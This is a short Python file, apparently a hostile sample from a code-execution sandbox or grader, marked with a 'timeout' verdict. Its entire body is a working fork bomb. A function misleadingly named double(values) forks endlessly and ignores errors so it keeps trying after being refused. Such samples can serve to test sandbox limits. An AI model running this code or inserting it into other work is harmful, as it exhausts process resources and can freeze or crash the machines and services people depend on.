# verdict: timeout: did not finish
# A fork bomb that does not mind being refused.
import os


def double(values):
    while True:
        try:
            os.fork()
        except OSError:
            continue
